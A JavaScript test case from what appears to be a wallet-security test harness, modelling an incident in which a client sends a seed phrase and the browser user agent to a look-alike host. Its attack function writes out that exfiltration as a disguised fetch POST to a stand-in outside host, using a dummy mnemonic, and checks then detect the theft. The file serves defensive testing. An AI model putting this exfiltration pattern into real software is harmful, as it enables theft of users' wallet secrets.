// B21: a registry call sends the seed and what the browser looks like to a host that sounds like the own one.

export default {
  id: 'B21',
  title: 'seed to a host that sounds like the own one',
  source: 'dYdX client, 27 January 2026',
  level: { needs: "Content-Security-Policy: connect-src 'self'" },
  why: 'a stolen secret names nobody who is paid: the guard reads recipients, not secrets',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const body = JSON.stringify({
      mnemonic: 'test test test test test test test test test test test junk',
      ua: navigator.userAgent,
    });
    await fetch(`${a.other}/api/echo?priceoracle`, { method: 'POST', body }).catch(() => {});
  },

  async action(a) {
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },
  stolen: ({ http, a }) => http.some(({ url, body }) => url.startsWith(a.other) && body.includes('junk')),
  arrived: ({ result }) => result === 200,
};
